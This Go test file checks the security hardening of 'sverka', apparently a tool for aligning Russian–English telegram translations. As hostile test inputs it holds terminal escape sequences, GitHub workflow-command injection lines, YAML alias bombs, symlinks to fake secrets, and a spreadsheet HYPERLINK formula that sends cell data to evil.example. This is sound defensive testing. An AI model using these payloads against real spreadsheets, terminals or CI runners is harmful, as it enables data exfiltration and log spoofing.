package main

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// withinDeadline fails the test when fn has not returned after d: a bound
// far above what the work should take, never a timing.
func withinDeadline(t *testing.T, d time.Duration, what string, fn func()) {
	t.Helper()
	done := make(chan struct{})
	go func() {
		defer close(done)
		fn()
	}()
	select {
	case <-done:
	case <-time.After(d):
		t.Fatalf("%s still running after %v", what, d)
	}
}

// writeFile writes a test input and returns its path.
func writeFile(t *testing.T, dir, name, text string) string {
	t.Helper()
	p := filepath.Join(dir, name)
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(p, []byte(text), 0o644); err != nil {
		t.Fatal(err)
	}
	return p
}

// TestNestedBracketsBounded: a 32 KB line of 16,000 nested brackets, as a
// pull request may hold, took check 65 s; now each command reads it in
// linear time and notes names the bracket past the bound.
func TestNestedBracketsBounded(t *testing.T) {
	line := strings.Repeat("[", 16000) + "the crews - NO" + strings.Repeat("]", 16000) + "\n"
	d := writeFile(t, t.TempDir(), "d.txt", line)
	for _, cmd := range []string{"check", "notes", "segment"} {
		var code int
		var out string
		withinDeadline(t, 20*time.Second, cmd+" on 16,000 nested brackets", func() {
			code, out, _ = runSverka(t, "", cmd, d)
		})
		if code > exitFindings {
			t.Errorf("%s: exit %d", cmd, code)
		}
		if cmd == "notes" && !strings.Contains(out, ": too-deep: [") {
			t.Errorf("notes does not name the bracket past the bound:\n%.300s", out)
		}
		if cmd == "check" && !strings.Contains(out, ":1:33: warning: bracket-unbalanced: brackets nested more than 32 deep") {
			t.Errorf("check does not warn of the nesting:\n%.300s", out)
		}
	}
}

// exampleEdition copies the example edition into a temporary folder.
func exampleEdition(t *testing.T) string {
	dir := copyTree(t, filepath.Join("..", "..", "examples", "telegrams"))
	// The README's first command builds edition.html into the example (git
	// ignores it): a copy starts from the example as committed, or a test
	// of what build writes would read the user's last build.
	if err := os.Remove(filepath.Join(dir, "edition.html")); err != nil && !os.IsNotExist(err) {
		t.Fatal(err)
	}
	return dir
}

// TestEditionGlossaryAliases: an edition glossary of aliases (2.2 GB and
// 2 min in check) is refused at its first alias, with its position.
func TestEditionGlossaryAliases(t *testing.T) {
	dir := exampleEdition(t)
	var b strings.Builder
	b.WriteString("entries:\n  - russian: штормобоязнь\n    renderings: &R\n")
	for i := range 3000 {
		fmt.Fprintf(&b, "      - storm-fright %d\n", i)
	}
	for i := range 3000 {
		fmt.Fprintf(&b, "  - russian: термин%d\n    renderings: *R\n", i)
	}
	writeFile(t, dir, "glossary.yaml", b.String())
	var code int
	var errb string
	withinDeadline(t, 20*time.Second, "check with a glossary of aliases", func() {
		code, _, errb = runSverka(t, "", "check", "--config", filepath.Join(dir, "sverka.yaml"))
	})
	if code != exitBad || !strings.Contains(errb, "glossary.yaml:3005:17: alias *R") {
		t.Fatalf("exit %d, stderr %.300q", code, errb)
	}
}

// TestNonRegularInputs: each file sverka reads by name, made a link to
// /dev/zero (as a pull request can make .sverka-baseline.json or
// sverka.yaml), is refused at once instead of read until memory runs out.
func TestNonRegularInputs(t *testing.T) {
	if _, err := os.Stat("/dev/zero"); err != nil {
		t.Skip("no /dev/zero")
	}
	dir := exampleEdition(t)
	zero := filepath.Join(dir, "zero")
	if err := os.Symlink("/dev/zero", zero); err != nil {
		t.Skipf("no symbolic links: %v", err)
	}
	cfg := filepath.Join(dir, "sverka.yaml")
	en := filepath.Join(dir, "en.txt")
	ru := filepath.Join(dir, "ru", "doc1.txt")
	for _, args := range [][]string{
		{"check", "--config", zero},
		{"check", "--glossary", zero, "--config", cfg},
		{"check", "--baseline", zero, "--config", cfg},
		{"glossary", "list", zero},
		{"glossary", "import", "--format", "csv", zero},
		{"glossary", "import", zero + ".tbx"},
		{"glossary", "export", zero},
		{"align", "--keep", zero, ru, en + "#1"},
		{"export", "--alignment", zero, ru, en + "#1"},
		{"segment", "--boilerplate", zero, en},
		{"segment", zero},
		{"eval", "--gold", zero, "--test", cfg},
	} {
		if args[len(args)-1] == zero+".tbx" {
			os.Symlink("/dev/zero", zero+".tbx")
		}
		var code int
		var errb string
		withinDeadline(t, 10*time.Second, strings.Join(args, " "), func() {
			code, _, errb = runSverka(t, "", args...)
		})
		if code != exitBad || !strings.Contains(errb, "refused") {
			t.Errorf("%v: exit %d, stderr %.300q", args, code, errb)
		}
	}
}

// TestMissingEditionGlossary: a glossary sverka.yaml names but that is not
// there is reported at its line in sverka.yaml.
func TestMissingEditionGlossary(t *testing.T) {
	dir := exampleEdition(t)
	os.Remove(filepath.Join(dir, "glossary.yaml"))
	code, _, errb := runSverka(t, "", "check", "--config", filepath.Join(dir, "sverka.yaml"))
	want := filepath.Join(dir, "sverka.yaml") + ":7:11: glossary glossary.yaml: no such file or directory"
	if code != exitBad || !strings.Contains(errb, want) {
		t.Fatalf("exit %d, stderr %q, want %q", code, errb, want)
	}
}

// hostileSentence is a sentence an attacker writes: terminal escapes (a
// window title, a screen clear, the C1 CSI) and a spreadsheet formula.
const hostileSentence = "Экипажи \x1b]0;PWNED\x07\x1b[2J ушли \u009b31m утром."

// hasTerminalControl reports a control character a terminal obeys (line
// breaks and tabs aside, which the formats use).
func hasTerminalControl(s string) bool {
	for _, r := range s {
		if r != '\n' && r != '\t' && (r < 0x20 || r == 0x7f || r >= 0x80 && r <= 0x9f) {
			return true
		}
	}
	return false
}

// TestTerminalEscapes: a text with escapes is printed escaped by every
// command that writes lines for a terminal or a log.
func TestTerminalEscapes(t *testing.T) {
	dir := t.TempDir()
	ru := writeFile(t, dir, "ru.txt", "Телеграмма № 5.\n\n"+hostileSentence+"\n\nИнстанция [высшая - NO] решила.\n")
	en := writeFile(t, dir, "en.txt", "Telegram No. 5.\n\nThe crews \x1b]0;PWNED\x07 left \u009b31m in the morning.\n\nInstantsia [the leadership \x1b[2J - NO] decided.\n")
	g := writeFile(t, dir, "g.yaml", "entries:\n  - russian: \"Инстанция\\e[2J\"\n    translit: \"instantsiia\\e]0;x\\a\"\n    renderings: [\"Instantsia\\u009b\"]\n")
	for _, args := range [][]string{
		{"segment", en},
		{"segment", "--format", "tsv", en},
		{"notes", en},
		{"align", "--format", "tsv", ru, en},
		{"glossary", "list", g},
		{"glossary", "export", "--format", "csv", g},
		{"glossary", "export", "--format", "tsv", g},
		{"check", "--glossary", g, en},
		{"check", "--format", "github", "--glossary", g, en},
	} {
		code, out, errb := runSverka(t, "", args...)
		if code > exitFindings {
			t.Errorf("%v: exit %d: %s", args, code, errb)
			continue
		}
		if hasTerminalControl(out) || hasTerminalControl(errb) {
			t.Errorf("%v: control characters written:\n%q\n%q", args, out, errb)
		}
	}
}

// TestSpreadsheetFormulas: cells that a spreadsheet would run as formulas
// are written with a leading ' by every CSV and TSV writer, and an import
// takes the ' off again.
func TestSpreadsheetFormulas(t *testing.T) {
	dir := t.TempDir()
	formula := `=HYPERLINK("http://evil.example/?x="&A1,"Click")`
	ru := writeFile(t, dir, "ru.txt", "Телеграмма № 5.\n\n"+formula+"\n\n+Инстанция решила.\n")
	en := writeFile(t, dir, "en.txt", "Telegram No. 5.\n\n"+formula+"\n\n@Instantsia decided.\n")
	g := writeFile(t, dir, "g.yaml", "entries:\n  - russian: \"=Инстанция\"\n    renderings: [\"-Instantsia\", \"@SUM(A1)\"]\n    note: \"+1 cmd\"\n")
	bad := func(cell string) bool { return cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) }
	for _, tc := range []struct {
		args []string
		sep  string
	}{
		{[]string{"glossary", "export", "--format", "csv", g}, ","},
		{[]string{"glossary", "export", "--format", "tsv", g}, "\t"},
		{[]string{"export", "--format", "tsv", ru, en}, "\t"},
		{[]string{"align", "--format", "tsv", ru, en}, "\t"},
		{[]string{"segment", "--format", "tsv", en}, "\t"},
	} {
		code, out, errb := runSverka(t, "", tc.args...)
		if code != exitClean {
			t.Errorf("%v: exit %d: %s", tc.args, code, errb)
			continue
		}
		for _, line := range strings.Split(out, "\n") {
			for _, cell := range strings.Split(line, tc.sep) {
				if bad(strings.TrimPrefix(cell, `"`)) {
					t.Errorf("%v: cell %q starts a formula", tc.args, cell)
				}
			}
		}
		if !strings.Contains(out, "'=") {
			t.Errorf("%v: no formula written with its ':\n%s", tc.args, out)
		}
	}
	// The round trip: export, import, and the terms are as they were.
	_, csvOut, _ := runSverka(t, "", "glossary", "export", "--format", "csv", g)
	back := writeFile(t, dir, "back.csv", csvOut)
	code, yamlOut, errb := runSverka(t, "", "glossary", "import", back)
	if code != exitClean || !strings.Contains(yamlOut, `=Инстанция`) || strings.Contains(yamlOut, `'=Инстанция`) ||
		!strings.Contains(yamlOut, "-Instantsia") || strings.Contains(yamlOut, "'-Instantsia") || !strings.Contains(yamlOut, "+1 cmd") {
		t.Errorf("import of the export: exit %d %s\n%s", code, errb, yamlOut)
	}
}

// commandLine reports a line of out that a GitHub runner would read as a
// workflow command other than sverka's own annotations on standard output.
func commandLine(out string) string {
	for _, line := range strings.Split(out, "\n") {
		if strings.HasPrefix(line, "::") && !strings.Contains(line, "title=sverka ") {
			return line
		}
	}
	return ""
}

// TestWorkflowCommandInjection: a file name or a text with line breaks
// cannot make sverka print a line a GitHub runner reads as a command.
func TestWorkflowCommandInjection(t *testing.T) {
	inject := "\n::error file=README.md,line=1::INJECTED\n"
	dir := exampleEdition(t)
	cfg := filepath.Join(dir, "sverka.yaml")
	// A sverka.yaml naming a file with line breaks in its name.
	writeFile(t, dir, "sverka.yaml", "pairs:\n  - source: \"ru/nope\\n::error file=README.md,line=1::INJECTED\\n.txt\"\n    target: en.txt#1\n")
	code, out, errb := runSverka(t, "", "check", "--format", "github", "--config", cfg)
	if code != exitBad || commandLine(out+errb) != "" {
		t.Errorf("file name in sverka.yaml: exit %d, line %q\n%s", code, commandLine(out+errb), errb)
	}
	// The same through a glossary named on the command line.
	code, out, errb = runSverka(t, "", "check", "--format", "github", "--glossary", dir+"/g"+inject+".yaml", filepath.Join(dir, "en.txt"))
	if code != exitBad || commandLine(out+errb) != "" {
		t.Errorf("glossary name: exit %d, line %q\n%s", code, commandLine(out+errb), errb)
	}
	// segment's warning about the lines before the first document names
	// the file.
	en := writeFile(t, dir, "page"+inject+".txt", "Главная страница архива\nНовости\nКонтакты\n\n"+
		"Document 1: Ciphered telegram from Lavrentyev to Stalin, 14 March 1951\n\nThe crews left.\n\n"+
		"Document 2: Ciphered telegram from Lavrentyev to Stalin, 15 March 1951\n\nThe crews came back.\n")
	code, out, errb = runSverka(t, "", "segment", en)
	if code != exitClean || commandLine(out+errb) != "" || !strings.Contains(errb, "before the first document") {
		t.Errorf("segment warning: exit %d, line %q\n%s", code, commandLine(out+errb), errb)
	}
}

// TestConfidenceOutOfRange: a stored alignment whose confidences are
// 1e308, -5 or 42 exported with exit 0 (XCES wrote a 309-digit
// certainty); each is refused with the file and the link.
func TestConfidenceOutOfRange(t *testing.T) {
	dir := t.TempDir()
	ru := filepath.Join("..", "..", "examples", "telegrams", "ru", "doc1.txt")
	en := filepath.Join("..", "..", "examples", "telegrams", "en.txt") + "#1"
	code, stored, errb := runSverka(t, "", "align", "--format", "json", ru, en)
	if code != exitClean {
		t.Fatalf("align: exit %d: %s", code, errb)
	}
	for _, bad := range []string{"1e+308", "-5", "42"} {
		i := strings.Index(stored, `"confidence": `)
		if i < 0 {
			t.Fatalf("no confidence in the alignment:\n%.500s", stored)
		}
		j := i + len(`"confidence": `)
		k := j + strings.IndexAny(stored[j:], ",}\n")
		file := writeFile(t, dir, "a.json", stored[:j]+bad+stored[k:])
		line := 1 + strings.Count(stored[:i], "\n")
		for _, format := range []string{"xces", "tsv", "tmx", "tei"} {
			code, _, errb := runSverka(t, "", "export", "--format", format, "--alignment", file, ru, en)
			// The link's line: where its object opens, above its fields.
			want := fmt.Sprintf("%s:%d: link 1: confidence %s is outside [0, 1]", file, line-7, bad)
			if code != exitBad || !strings.Contains(errb, want) {
				t.Errorf("%s, %s: exit %d, stderr %q, want %q", bad, format, code, errb, want)
			}
		}
	}
}

// TestBaselineThroughLink: a baseline that is a link out of the edition
// and the working directory is neither written through (--update-baseline
// overwrote the file it pointed at) nor read (a link to a secret quoted
// its first byte in the error).
func TestBaselineThroughLink(t *testing.T) {
	dir := exampleEdition(t)
	cfg := filepath.Join(dir, "sverka.yaml")
	elsewhere := t.TempDir()
	victim := writeFile(t, elsewhere, "victim.txt", "токен: не для журнала\n")
	for _, tc := range []struct {
		name, to string
		args     []string
	}{
		{"update.json", victim, []string{"--update-baseline"}},
		{"read.json", victim, nil},
		{"first.json", filepath.Join(elsewhere, "made.txt"), nil},
	} {
		link := filepath.Join(dir, tc.name)
		if err := os.Symlink(tc.to, link); err != nil {
			t.Skipf("no symbolic links: %v", err)
		}
		args := append([]string{"check", "--config", cfg, "--baseline", link}, tc.args...)
		code, out, errb := runSverka(t, "", args...)
		if code != exitBad || !strings.Contains(errb, "leads outside") || strings.Contains(out+errb, "токен") {
			t.Errorf("%s: exit %d, stderr %q", tc.name, code, errb)
		}
	}
	if b, _ := os.ReadFile(victim); string(b) != "токен: не для журнала\n" {
		t.Errorf("the file the link points at was overwritten: %q", b)
	}
	if _, err := os.Stat(filepath.Join(elsewhere, "made.txt")); err == nil {
		t.Error("a baseline was made outside the edition")
	}
	// build's own edition.html, not named by -o, is not written through
	// a link either.
	if err := os.Symlink(victim, filepath.Join(dir, "edition.html")); err != nil {
		t.Fatal(err)
	}
	code, _, errb := runSverka(t, "", "build", "--config", cfg)
	if code != exitBad || !strings.Contains(errb, "leads outside") {
		t.Errorf("build: exit %d, stderr %q", code, errb)
	}
	if b, _ := os.ReadFile(victim); string(b) != "токен: не для журнала\n" {
		t.Errorf("build overwrote the file edition.html points at: %q", b)
	}
}

// TestConfigThroughLink: a sverka.yaml that is a link out of its folder is
// refused before it is read, so no error quotes what it points at.
func TestConfigThroughLink(t *testing.T) {
	dir := exampleEdition(t)
	secret := writeFile(t, t.TempDir(), "secret.yaml", "secret-token: hunter2\n")
	cfg := filepath.Join(dir, "sverka.yaml")
	os.Remove(cfg)
	if err := os.Symlink(secret, cfg); err != nil {
		t.Skipf("no symbolic links: %v", err)
	}
	for _, args := range [][]string{{"check", "--config", cfg}, {"check", "--config", cfg, filepath.Join(dir, "en.txt")}} {
		code, out, errb := runSverka(t, "", args...)
		if code != exitBad || !strings.Contains(errb, "leads outside") || strings.Contains(out+errb, "secret-token") {
			t.Errorf("%v: exit %d, stderr %q", args, code, errb)
		}
	}
}

// TestTranslitRefusesInvalidUTF8: translit - replaced bytes that are not
// UTF-8 with U+FFFD; it refuses them with their line and column, as every
// other command does, even when a character is cut between two reads.
func TestTranslitRefusesInvalidUTF8(t *testing.T) {
	code, out, errb := runSverka(t, "Москва\nКре\xffмль\n", "translit", "-")
	if code != exitBad || !strings.Contains(errb, "<stdin>:2:4: invalid UTF-8 (byte 0xFF)") || strings.ContainsRune(out, '\uFFFD') {
		t.Errorf("exit %d, out %q, stderr %q", code, out, errb)
	}
	long := strings.Repeat("Кремль ", 2000) + "\n"
	code, out, errb = runSverka(t, long, "translit", "-")
	if code != exitClean || strings.ContainsRune(out, '\uFFFD') || !strings.HasPrefix(out, "Kreml' Kreml'") {
		t.Errorf("valid input: exit %d, stderr %q, out %.40q", code, errb, out)
	}
}

// TestInitMissingFolder: init names the folder it was given, not the
// system call that failed on it.
func TestInitMissingFolder(t *testing.T) {
	missing := filepath.Join(t.TempDir(), "нет")
	code, _, errb := runSverka(t, "", "init", missing)
	if code != exitBad || !strings.Contains(errb, "init: "+missing+": no such file or directory") || strings.Contains(errb, "stat ") {
		t.Errorf("exit %d, stderr %q", code, errb)
	}
}
